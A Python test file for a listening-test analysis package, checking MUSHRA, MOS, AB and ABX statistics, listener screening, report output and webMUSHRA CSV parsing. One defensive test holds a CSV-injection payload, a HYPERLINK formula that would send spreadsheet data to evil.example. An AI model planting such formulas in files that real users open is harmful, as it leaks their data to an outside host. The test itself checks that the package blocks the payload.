"""wavegen listen analyze on small answer sets whose statistics are worked out by hand."""

import csv
import json
import math

import numpy as np
import pytest
from scipy import stats as scipy_stats

from wavegen.core.errors import WavegenError
from wavegen.listen import analyze, stats, summarize
from wavegen.listen.report import in_words, write_plots, write_report
from wavegen.listen.results import Choice, Rating, Results, results_from_webmushra, write_answers_csv
from wavegen.listen.stats import holm

T_975_DF5 = 2.5705818366147395  # Student t, 97.5 % quantile, 5 degrees of freedom (tables)

# Three good listeners (L1-L3), each rating two items; L4 rates the hidden reference below 90 in
# both items (100 % > 15 %), L5 rates the mid-range anchor above 90 in one of two (50 % > 15 %).
A = {
    ("L1", "i1"): 60,
    ("L1", "i2"): 70,
    ("L2", "i1"): 80,
    ("L2", "i2"): 50,
    ("L3", "i1"): 65,
    ("L3", "i2"): 75,
}
B = {
    ("L1", "i1"): 40,
    ("L1", "i2"): 45,
    ("L2", "i1"): 62,
    ("L2", "i2"): 51,
    ("L3", "i1"): 30,
    ("L3", "i2"): 58,
}


def mushra_results() -> Results:
    rows = []
    for (listener, item), score in A.items():
        rows.append(Rating(listener, item, "sysA", score))
        rows.append(Rating(listener, item, "sysB", B[(listener, item)]))
        rows.append(Rating(listener, item, "reference", 100 if item == "i1" else 95))
        rows.append(Rating(listener, item, "anchor35", 10))
        rows.append(Rating(listener, item, "anchor70", 30))
    for item in ("i1", "i2"):
        for listener, ref, a70 in (("L4", 50, 30), ("L5", 100, 95 if item == "i1" else 20)):
            rows += [
                Rating(listener, item, "reference", ref),
                Rating(listener, item, "sysA", 0),
                Rating(listener, item, "sysB", 100),
                Rating(listener, item, "anchor35", 5),
                Rating(listener, item, "anchor70", a70),
            ]
    return Results("mushra", "lt-hand", "hand", rows, [], False, ["L1", "L2", "L3", "L4", "L5"])


def test_mushra_means_intervals_screening_wilcoxon_holm():
    s = summarize(mushra_results())
    excluded = {e["listener"]: e["reason"] for e in s["excluded_listeners"]}
    assert set(excluded) == {"L4", "L5"}
    assert "hidden reference below 90 in 2 of 2 items" in excluded["L4"]
    assert "mid-range anchor above 90 in 1 of 2 items" in excluded["L5"]
    assert s["listeners"] == 5 and s["listeners_kept"] == 3

    # sysA over the kept listeners: 60 70 80 50 65 75 -> mean 400/6; squared deviations sum to
    # 583.33 -> std sqrt(583.33/5); half-width t(0.975, 5) * std / sqrt(6).
    a = s["systems"]["sysA"]
    mean = 400 / 6
    std = math.sqrt(((60 - mean) ** 2 + (70 - mean) ** 2 + (80 - mean) ** 2 + (50 - mean) ** 2
                     + (65 - mean) ** 2 + (75 - mean) ** 2) / 5)  # fmt: skip
    assert a["n"] == 6
    assert a["mean"] == pytest.approx(66.6667, abs=1e-4)
    assert a["std"] == pytest.approx(std) and std == pytest.approx(10.8012, abs=1e-4)
    half = T_975_DF5 * std / math.sqrt(6)
    assert a["ci95"] == pytest.approx([mean - half, mean + half]) and half == pytest.approx(11.3353, abs=1e-4)
    assert s["systems"]["reference"]["mean"] == pytest.approx(97.5)
    # reference: 100 and 95 three times each: variance 6 * 2.5^2 / 5 = 7.5
    ref_half = T_975_DF5 * math.sqrt(7.5) / math.sqrt(6)
    # 97.5 + ref_half runs past 100: the interval is cut at the scale's end, and says so
    assert 97.5 + ref_half > 100 and s["systems"]["reference"]["ci95_clamped"] is True
    assert s["systems"]["reference"]["ci95"] == pytest.approx([97.5 - ref_half, 100.0])
    assert list(s["systems"]) == ["reference", "sysA", "sysB", "anchor35", "anchor70"]

    # Pairwise: reference, sysA, sysB (anchors left out) -> 3 Wilcoxon tests on 6 pairs each.
    pairs = {(p["a"], p["b"]): p for p in s["pairwise"]}
    assert set(pairs) == {("reference", "sysA"), ("reference", "sysB"), ("sysA", "sysB")}
    keys = sorted(A)
    expected = scipy_stats.wilcoxon([A[k] for k in keys], [B[k] for k in keys])
    ab = pairs[("sysA", "sysB")]
    assert ab["n"] == 6
    assert ab["p"] == pytest.approx(expected.pvalue) and ab["statistic"] == pytest.approx(expected.statistic)
    # by hand: differences 20 25 18 -1 35 17 -> ranks 4 5 3 1 6 2; W- = 1, exact two-sided
    # p = 2 * P(W <= 1) = 2 * 2/64
    assert ab["statistic"] == 1 and ab["p"] == pytest.approx(4 / 64)
    # Hodges-Lehmann: the median of the 21 Walsh averages of -1 17 18 20 25 35 is 19; with n = 6
    # only P(T+ <= 0) = 1/64 is below 2.5 %, so the 95 % interval is the smallest to the largest
    # Walsh average (coverage 62/64), -1 to 35: sysA is higher, but the interval includes 0.
    assert ab["hodges_lehmann"] == 19 and ab["hl_ci95"] == [-1, 35]
    assert ab["direction"] == "sysA higher (interval includes 0)" and ab["median_difference"] == 19
    assert ab["smallest_p"] == pytest.approx(2 / 64)
    said = "\n".join(in_words(s))
    assert "sysA vs sysB: sysA rated 19 higher (95% CI -1.00 to 35.00), n = 6 pairs" in said
    assert "reference vs sysB: reference rated" in said
    swapped = mushra_results()
    for r in swapped.ratings:
        r.system = {"sysA": "sysB", "sysB": "sysA"}.get(r.system, r.system)
    flipped = {(p["a"], p["b"]): p for p in summarize(swapped)["pairwise"]}[("sysA", "sysB")]
    assert flipped["hodges_lehmann"] == -19 and flipped["hl_ci95"] == [-35, 1]
    assert flipped["direction"] == "sysB higher (interval includes 0)"
    assert "sysA vs sysB: sysB rated 19 higher (95% CI -1.00 to 35.00)" in "\n".join(
        in_words(summarize(swapped))
    )
    ps = [p["p"] for p in s["pairwise"]]
    assert [p["p_holm"] for p in s["pairwise"]] == pytest.approx(holm(ps))


def test_holm_by_hand():
    # sorted 0.01, 0.03, 0.04 -> 3*0.01, max(0.03, 2*0.03), max(0.06, 1*0.04)
    assert holm([0.01, 0.04, 0.03]) == pytest.approx([0.03, 0.06, 0.06])
    assert holm([0.5, 0.2, 0.001, 0.9]) == pytest.approx([1.0, 0.6, 0.004, 1.0])
    assert holm([0.02]) == [0.02] and holm([]) == []


def test_mos_gold_screening():
    rows = []
    for listener, gold in (("good", 5), ("careless", 3)):
        for item in ("i1", "i2"):
            rows.append(Rating(listener, item, "reference", gold if item == "i2" else 5))
            rows.append(Rating(listener, item, "sysA", 3))
            rows.append(Rating(listener, item, "sysB", 2))
    s = summarize(Results("mos", "t", "hand", rows, [], True, ["careless", "good"]))
    assert [e["listener"] for e in s["excluded_listeners"]] == ["careless"]
    assert "1 of 2 gold items below 4" in s["excluded_listeners"][0]["reason"]
    assert s["systems"]["sysA"] == {
        "mean": 3.0,
        "std": 0.0,
        "ci95": [3.0, 3.0],
        "ci95_clamped": False,
        "n": 2,
    }
    # Without gold items nobody is screened out.
    assert (
        summarize(Results("mos", "t", "hand", rows, [], False, ["careless", "good"]))["listeners_kept"] == 2
    )


def test_ab_and_abx_binomial():
    # AB: sysA preferred 9 times, sysB once, 2 no-preference: two-sided exact binomial over the
    # 10 decided answers: p = 2 * (C(10,9) + C(10,10)) / 2^10 = 22/1024.
    choices = [Choice("L", f"i{k}", "sysA", "sysB", None, "A") for k in range(9)]
    choices += [Choice("L", "j", "sysB", "sysA", None, "A"), Choice("L", "n1", "sysA", "sysB", None, "none")]
    choices += [Choice("L", "n2", "sysB", "sysA", None, "none")]
    s = summarize(Results("ab", "t", "hand", [], choices, False, ["L"]))
    (pair,) = s["pairwise"]
    assert (pair["a"], pair["b"], pair["wins_a"], pair["wins_b"], pair["no_preference"]) == (
        "sysA",
        "sysB",
        9,
        1,
        2,
    )
    assert pair["p"] == pytest.approx(22 / 1024) and pair["p_holm"] == pytest.approx(22 / 1024)
    assert pair["n"] == 10 and pair["answers"] == 12  # the binomial test used the 10 decided answers
    assert pair["share_a"] == 0.9 and pair["direction"] == "sysA higher"
    assert [s_["wins"] for s_ in (s["systems"]["sysA"], s["systems"]["sysB"])] == [9, 1]
    assert [s_["losses"] for s_ in (s["systems"]["sysA"], s["systems"]["sysB"])] == [1, 9]
    assert s["systems"]["sysA"]["ties"] == s["systems"]["sysB"]["ties"] == 2
    assert s["systems"]["sysA"]["mean"] == pytest.approx((9 + 1) / 12)  # 9 wins, 2 halves
    # ABX: 8 of 10 correct for sysA: one-sided p = (C(10,8) + C(10,9) + 1) / 1024 = 56/1024;
    # 5 of 10 for sysB: p = 638/1024. Holm: 2 * 56/1024, then max(that, 638/1024).
    choices = []
    for system, correct in (("sysA", 8), ("sysB", 5)):
        for k in range(10):
            x = "reference" if k % 2 else system
            chosen = x if k < correct else ({"reference": system, system: "reference"}[x])
            a, b = ("reference", system) if k % 3 else (system, "reference")
            choices.append(Choice("L", f"i{k}", a, b, x, "A" if chosen == a else "B"))
    s = summarize(Results("abx", "t", "hand", [], choices, False, ["L"]))
    pairs = {p["a"]: p for p in s["pairwise"]}
    assert pairs["sysA"]["correct"] == 8 and pairs["sysA"]["p"] == pytest.approx(56 / 1024)
    assert pairs["sysB"]["p"] == pytest.approx(638 / 1024)
    assert pairs["sysA"]["p_holm"] == pytest.approx(112 / 1024) and pairs["sysB"]["p_holm"] == pytest.approx(
        638 / 1024
    )
    assert s["systems"]["sysA"]["mean"] == 0.8
    ci = scipy_stats.binomtest(8, 10).proportion_ci(method="exact")
    assert s["systems"]["sysA"]["ci95"] == pytest.approx([ci.low, ci.high])


def test_analyze_writes_everything_and_reads_webmushra(tmp_path):
    results = mushra_results()
    # A webMUSHRA mushra.csv with its usual participant columns: the first one names the listener.
    path = tmp_path / "mushra.csv"
    with open(path, "w", newline="") as f:
        w = csv.writer(f)
        participant = ["email", "age", "gender"]
        rating = ["trial_id", "rating_stimulus", "rating_score", "rating_time", "rating_comment"]
        w.writerow(["session_test_id", *participant, *rating])
        for r in results.ratings:
            w.writerow(["demo", r.listener, "30", "x", r.item, r.system, r.score, 1234, ""])
    out = tmp_path / "out"
    summary = analyze(out, webmushra=path)
    assert summary["systems"] == summarize(results)["systems"]
    assert [e["listener"] for e in summary["excluded_listeners"]] == ["L4", "L5"]
    assert json.loads((out / "summary.json").read_text()) == summary
    for name in ("boxplot.png", "ci.png"):
        assert (out / name).read_bytes()[:8] == b"\x89PNG\r\n\x1a\n"
    md, page = (out / "report.md").read_text(), (out / "report.html").read_text()
    assert "L4" in md and "hidden reference below 90" in md and "sysA" in page and "<img" in page
    # answers.csv is in webMUSHRA's layout, so it reads back to the same analysis.
    header = (out / "answers.csv").read_text().splitlines()[0]
    assert (
        header == "session_test_id,listener,trial_id,rating_stimulus,rating_score,rating_time,rating_comment"
    )
    again = results_from_webmushra(out / "answers.csv")
    assert summarize(again)["systems"] == summary["systems"]

    # Broken files: one line naming the file and row.
    bad = tmp_path / "bad.csv"
    bad.write_text("session_test_id,trial_id,rating_stimulus,rating_score\nx,i,s,50\n")
    with pytest.raises(WavegenError, match="no participant column"):
        results_from_webmushra(bad)
    bad.write_text("session_test_id,name,trial_id,rating_stimulus,rating_score\nx,a,i,s,500\n")
    with pytest.raises(WavegenError, match=r"bad.csv:2: rating_score 500 outside 0-100"):
        results_from_webmushra(bad)
    with pytest.raises(WavegenError, match="either a TEST_DIR or --webmushra"):
        analyze(out)


def test_answers_csv_for_choices(tmp_path):
    choices = [
        Choice("L", "i1", "reference", "sysA", "sysA", "B", 900),
        Choice("L", "i2", "sysA", "reference", "sysA", "B"),
    ]
    write_answers_csv(Results("abx", "t", "hand", [], choices, False, ["L"]), tmp_path / "a.csv")
    lines = (tmp_path / "a.csv").read_text().splitlines()
    assert lines[0].split(",")[3:6] == ["choice_reference", "choice_non_reference", "choice_answer"]
    assert lines[1] == "t,L,i1,reference,sysA,correct,900,"
    assert lines[2] == "t,L,i2,sysA,reference,incorrect,,"


def test_hodges_lehmann_interval_covers():
    """The exact signed-rank interval covers the true shift at least 95 % of the time (seeded
    simulation, normal differences around 0.3) and narrows as n grows."""
    rng = np.random.default_rng(7)
    covered = 0
    for _ in range(400):
        _, low, high = stats.hodges_lehmann(rng.standard_normal(12) + 0.3)
        covered += low <= 0.3 <= high
    assert covered / 400 >= 0.93, covered  # 95 % nominal; 400 draws: sd ~1.1 %
    assert stats.hodges_lehmann([1.0, 2.0, 3.0, 4.0, 5.0]) == (3.0, None, None)  # n = 5: no 95 % interval
    assert stats.signed_rank_cdf(3).tolist() == pytest.approx([1 / 8, 2 / 8, 3 / 8, 5 / 8, 6 / 8, 7 / 8, 1])


def test_warnings_few_listeners_single_item_and_hopeless_comparisons():
    s = summarize(mushra_results())
    text = "\n".join(s["warnings"])
    # 3 of 5 listeners remain; L5 was excluded on one item of two (the anchor in i1).
    assert "Only 3 of 5 listeners remain after screening" in text
    assert "Listener L5 was excluded because of a single item (1 of 2)" in text
    assert "L4 was excluded because of a single item" not in text  # two items failed
    excluded = {e["listener"]: e for e in s["excluded_listeners"]}
    assert (excluded["L4"]["items_failed"], excluded["L5"]["items_failed"]) == (2, 1)
    # 6 pairs can reach 2/64 < 0.05: no "cannot reach" warning for sysA vs sysB.
    assert "sysA vs sysB" not in text
    # AB with 4 decided answers: the smallest two-sided p is 2/16 = 0.125.
    choices = [Choice("L", f"i{k}", "sysA", "sysB", None, "A") for k in range(4)]
    s = summarize(Results("ab", "t", "hand", [], choices, False, ["L"]))
    assert s["pairwise"][0]["smallest_p"] == 0.125
    assert any("sysA vs sysB: with n = 4 this test cannot reach p < 0.05" in w for w in s["warnings"])
    assert "No comparison of this test can be significant" in s["warnings"][-1]


def test_ab_report_reads_without_the_json(tmp_path):
    """The AB report names the test and its n, shows wins, losses and ties, the direction, the
    warnings, and reads on a phone (viewport meta, tables that scroll inside themselves)."""
    choices = [Choice(f"L{k % 3}", f"i{k}", "sysA", "sysB", None, "A") for k in range(9)]
    choices += [
        Choice("L0", "t1", "sysA", "sysB", None, "none"),
        Choice("L1", "t2", "sysB", "sysA", None, "A"),
    ]
    results = Results("ab", "t-ab", "hand", [], choices, False, ["L0", "L1", "L2"])
    out = tmp_path / "out"
    summary = summarize(results)
    write_report(summary, write_plots(results, summary, out), out)
    page = (out / "report.html").read_text()
    md = (out / "report.md").read_text()
    for text in (md, page):
        assert "exact binomial, two-sided, on the answers with a preference" in text
        assert "Warnings" in text and "Only 3 of 3 listeners took part" in text
        assert "sysA higher" in text
    # the pairwise row: 9 + 1 decided answers (n tested 10) and 1 tie of 11 answers
    assert "| sysA | sysB | 9 | 1 | 1 | 10 |" in md
    assert "sysA vs sysB: sysA preferred in 9 and sysB in 1 of 10 answers with a preference (1 without)" in md
    assert "| system | preference score | 95% CI | wins | losses | ties | answers |" in md
    assert '<meta name="viewport" content="width=device-width, initial-scale=1">' in page
    assert 'class="table-wrap"' in page


def test_listener_text_cannot_become_a_spreadsheet_formula(tmp_path):
    """A listener's comment or questionnaire answer "=HYPERLINK(...)" went into answers.csv and
    questionnaire.csv as is: a formula when the experimenter opens them in a spreadsheet (CSV
    injection). Text starting with = + - @ or a tab is quoted with a leading apostrophe; numbers
    (a questionnaire's -3) are kept."""
    import csv

    from wavegen.listen.results import write_questionnaire_csv

    evil = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    ratings = [Rating("L", "i1", "sysA", 50.0, 900, evil), Rating("L", "i2", "sysA", 40.0, None, "@SUM(1)")]
    results = Results(
        "mushra", "t", "hand", ratings, [], False, ["L"], ["q", "n"], {"L": {"q": "+1+2", "n": "-3"}}
    )
    write_answers_csv(results, tmp_path / "a.csv")
    write_questionnaire_csv(results, tmp_path / "q.csv")
    rows = list(csv.reader((tmp_path / "a.csv").open(encoding="utf-8")))
    assert [r[-1] for r in rows[1:]] == ["'" + evil, "'@SUM(1)"]
    rows = list(csv.reader((tmp_path / "q.csv").open(encoding="utf-8")))
    assert rows[1] == ["t", "L", "'+1+2", "-3"]
